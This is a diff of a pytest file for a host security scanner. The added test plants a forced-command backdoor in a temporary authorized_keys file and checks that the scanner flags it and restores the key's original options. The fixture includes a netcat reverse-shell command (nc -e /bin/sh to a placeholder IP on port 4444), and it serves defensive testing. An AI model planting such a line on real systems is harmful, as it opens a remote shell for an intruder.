@@ -5,14 +5,17 @@ re-scan. Fixes that need the owner's word (is this key, this account yours?) are
 from __future__ import annotations
 
 import subprocess
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 import pytest
 
+from hostguard.engine.runner import run_scan
 from hostguard.host.base import RootHost
 from hostguard.remediation import Command, DeleteLine, Edit, Remediation
 from hostguard.respond.apply import apply
-from tests.conftest import HITS, HOSTS, build_tree, need_root, need_tool, run_one
+from hostguard.store.state import StateStore
+from tests.conftest import FAST, HITS, HOSTS, build_tree, make_config, need_root, need_tool, run_one
 from tests.fix_validation import findings, in_tree, run_steps, usable_root
 
 FIXES = HOSTS / "fixes" / "accounts"
@@ -275,3 +278,37 @@ def test_empty_password_fix_names_the_nullok_that_lets_it_in(tmp_path: Path) -> 
     assert "through pam_unix's `nullok` (/etc/pam.d/common-auth line 2: password_policy.pam_nullok)" in \
         found.remediation.summary
     assert found.evidence["nullok"] == ["/etc/pam.d/common-auth:2"]
+
+
+def test_a_changed_key_gets_its_options_back_and_ssh_keygen_still_reads_the_file(tmp_path: Path) -> None:
+    """accounts.ssh_key_new, a known key whose from= was dropped for a forced command: the fix edits the line back
+    to the options it had (the key, type and comment as written), `ssh-keygen -l -f` still lists the same keys,
+    and a re-scan is quiet (putting the options back ends the change). Scans through a real state directory."""
+    need_tool("ssh-keygen")
+    tree = build_tree(tmp_path / "host")
+    keys = tree / "home/alice/.ssh/authorized_keys"
+    original = keys.read_text().strip()
+    restricted = f'from="198.51.100.0/24",no-pty {original}'
+    keys.write_text(restricted + "\n")
+    state = StateStore(str(tmp_path / "state"))
+    t0 = datetime(2024, 5, 1, 12, 0, tzinfo=UTC)
+
+    def changed(at: datetime) -> list[Remediation]:
+        outcome = run_scan(RootHost(str(tree)), make_config(**FAST), state, only=["accounts"], started=at)
+        return [f.remediation for f in outcome.report.findings if f.id == "accounts.ssh_key_new"]
+
+    try:
+        assert changed(t0) == []
+        backdoor = f'command="nc -e /bin/sh 198.51.100.7 4444" {original}'
+        keys.write_text(backdoor + "\n")
+        [fix] = changed(t0 + timedelta(hours=1))
+        assert fix.steps == (Edit("/home/alice/.ssh/authorized_keys", 1, backdoor,
+                                  f'from="198.51.100.0/24",no-pty {original}'),)
+        listed = subprocess.run(["ssh-keygen", "-l", "-f", str(keys)], capture_output=True, text=True, check=False)
+        apply(fix.steps, str(tree))
+        after = subprocess.run(["ssh-keygen", "-l", "-f", str(keys)], capture_output=True, text=True, check=False)
+        assert after.returncode == 0 and after.stdout == listed.stdout, after.stderr
+        assert keys.read_text() == restricted + "\n"
+        assert changed(t0 + timedelta(hours=2)) == []
+    finally:
+        state.close()
